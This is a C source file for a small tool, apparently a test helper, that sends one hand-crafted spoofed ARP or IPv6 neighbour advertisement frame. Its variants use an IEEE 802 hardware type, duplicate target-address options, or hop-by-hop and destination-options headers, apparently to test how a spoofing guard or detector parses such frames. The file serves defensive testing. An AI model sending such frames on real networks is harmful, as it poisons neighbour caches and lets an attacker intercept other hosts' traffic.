/*
 * framesend - send one hand-made claim frame, as a hostile host would
 *
 *   framesend IFACE KIND ADDRESS MAC [MAC2]
 *
 * KIND:
 *   arp-ieee802  a gratuitous ARP request for ADDRESS at MAC with hardware
 *                type 6 (IEEE 802), which Linux accepts on Ethernet
 *   na-two       an unsolicited neighbour advertisement (override set) for
 *                ADDRESS with two target link-layer options, MAC then
 *                MAC2, sent from MAC2: the kernel takes the first
 *   na-hbh       the same with one option, MAC, behind a hop-by-hop
 *                options header (PadN)
 *   na-dstopt    behind a destination options header (PadN)
 *
 * Advertisements go from IFACE's first global IPv6 address to ff02::1,
 * hop limit 255, with a valid checksum. Exit status: 0 sent, 2 error.
 */
#include <arpa/inet.h>
#include <ifaddrs.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/if_ether.h>
#include <netinet/icmp6.h>
#include <netinet/in.h>
#include <netinet/ip6.h>
#include <stdint.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define TOOL_NAME "framesend"
#include "tool.h"

static void mac_read(const char *s, uint8_t mac[ETH_ALEN])
{
	unsigned b[ETH_ALEN];
	char extra;

	if (sscanf(s, "%x:%x:%x:%x:%x:%x%c", &b[0], &b[1], &b[2], &b[3], &b[4], &b[5], &extra) != 6)
		die("not a MAC address: %s", s);
	for (int i = 0; i < ETH_ALEN; i++)
		mac[i] = (uint8_t)b[i];
}

static uint32_t sum16(uint32_t sum, const uint8_t *p, size_t len)
{
	for (size_t i = 0; i + 1 < len; i += 2)
		sum += (uint32_t)p[i] << 8 | p[i + 1];
	if (len & 1)
		sum += (uint32_t)p[len - 1] << 8;
	return sum;
}

static void global_address(const char *ifname, struct in6_addr *out)
{
	struct ifaddrs *list, *a;

	if (getifaddrs(&list) < 0)
		die("getifaddrs: %m");
	for (a = list; a; a = a->ifa_next)
		if (a->ifa_addr && a->ifa_addr->sa_family == AF_INET6 && !strcmp(a->ifa_name, ifname) &&
		    !IN6_IS_ADDR_LINKLOCAL(&((struct sockaddr_in6 *)a->ifa_addr)->sin6_addr))
			break;
	if (!a)
		die("%s has no global IPv6 address", ifname);
	*out = ((struct sockaddr_in6 *)a->ifa_addr)->sin6_addr;
	freeifaddrs(list);
}

/* An advertisement in buf after the Ethernet header: IPv6, an optional
 * 8-byte extension header, the NA and its options. Returns the length. */
static size_t na_build(uint8_t *buf, const char *ifname, const char *kind, const struct in6_addr *target,
		       const uint8_t *mac, const uint8_t *mac2)
{
	struct ip6_hdr ip6 = { .ip6_flow = htonl(6u << 28), .ip6_hlim = 255 };
	uint8_t ext[8] = { IPPROTO_ICMPV6, 0, 1, 4 }, icmp[40] = { ND_NEIGHBOR_ADVERT };
	size_t icmp_len = 24 + 8, off = sizeof(ip6);
	uint32_t sum;

	global_address(ifname, &ip6.ip6_src);
	inet_pton(AF_INET6, "ff02::1", &ip6.ip6_dst);
	icmp[4] = 0x20; /* override */
	memcpy(icmp + 8, target, 16);
	icmp[24] = ND_OPT_TARGET_LINKADDR, icmp[25] = 1;
	memcpy(icmp + 26, mac, ETH_ALEN);
	if (!strcmp(kind, "na-two")) {
		icmp[32] = ND_OPT_TARGET_LINKADDR, icmp[33] = 1;
		memcpy(icmp + 34, mac2, ETH_ALEN);
		icmp_len += 8;
	}
	sum = sum16(0, (uint8_t *)&ip6.ip6_src, 32) + (uint32_t)icmp_len + IPPROTO_ICMPV6;
	sum = sum16(sum, icmp, icmp_len);
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	icmp[2] = (uint8_t)(~sum >> 8), icmp[3] = (uint8_t)~sum;
	ip6.ip6_nxt = IPPROTO_ICMPV6;
	if (!strcmp(kind, "na-hbh") || !strcmp(kind, "na-dstopt")) {
		ip6.ip6_nxt = !strcmp(kind, "na-hbh") ? IPPROTO_HOPOPTS : IPPROTO_DSTOPTS;
		memcpy(buf + off, ext, sizeof(ext));
		off += sizeof(ext);
	}
	memcpy(buf + off, icmp, icmp_len);
	ip6.ip6_plen = htons((uint16_t)(off - sizeof(ip6) + icmp_len));
	memcpy(buf, &ip6, sizeof(ip6));
	return off + icmp_len;
}

int main(int argc, char **argv)
{
	uint8_t frame[256] = { 0 }, mac[ETH_ALEN], mac2[ETH_ALEN], *src = mac;
	struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_halen = ETH_ALEN };
	struct ether_header *eth = (struct ether_header *)frame;
	size_t len;
	int fd;

	if (argc < 5 || argc > 6)
		die("usage: framesend IFACE arp-ieee802|na-two|na-hbh|na-dstopt ADDRESS MAC [MAC2]");
	if (!(to.sll_ifindex = (int)if_nametoindex(argv[1])))
		die("no interface %s", argv[1]);
	mac_read(argv[4], mac);
	mac_read(argc == 6 ? argv[5] : argv[4], mac2);
	if (!strcmp(argv[2], "arp-ieee802")) {
		struct ether_arp arp = { .ea_hdr = { htons(ARPHRD_IEEE802), htons(ETHERTYPE_IP), ETH_ALEN, 4,
						     htons(ARPOP_REQUEST) } };
		if (inet_pton(AF_INET, argv[3], arp.arp_spa) != 1)
			die("not an IPv4 address: %s", argv[3]);
		memcpy(arp.arp_tpa, arp.arp_spa, 4);
		memcpy(arp.arp_sha, mac, ETH_ALEN);
		memset(eth->ether_dhost, 0xff, ETH_ALEN);
		eth->ether_type = htons(ETHERTYPE_ARP);
		memcpy(frame + sizeof(*eth), &arp, sizeof(arp));
		len = sizeof(*eth) + sizeof(arp);
	} else if (!strncmp(argv[2], "na-", 3)) {
		struct in6_addr target;
		if (inet_pton(AF_INET6, argv[3], &target) != 1)
			die("not an IPv6 address: %s", argv[3]);
		if (!strcmp(argv[2], "na-two"))
			src = mac2;
		else if (strcmp(argv[2], "na-hbh") && strcmp(argv[2], "na-dstopt"))
			die("unknown kind %s", argv[2]);
		memcpy(eth->ether_dhost, (uint8_t[]){ 0x33, 0x33, 0, 0, 0, 1 }, ETH_ALEN);
		eth->ether_type = htons(ETHERTYPE_IPV6);
		len = sizeof(*eth) + na_build(frame + sizeof(*eth), argv[1], argv[2], &target, mac, mac2);
	} else {
		die("unknown kind %s", argv[2]);
	}
	memcpy(eth->ether_shost, src, ETH_ALEN);
	memcpy(to.sll_addr, eth->ether_dhost, ETH_ALEN);
	if ((fd = socket(AF_PACKET, SOCK_RAW, 0)) < 0)
		die("socket: %m");
	if (sendto(fd, frame, len, 0, (struct sockaddr *)&to, sizeof(to)) != (ssize_t)len)
		die("send: %m");
	close(fd);
	return 0;
}
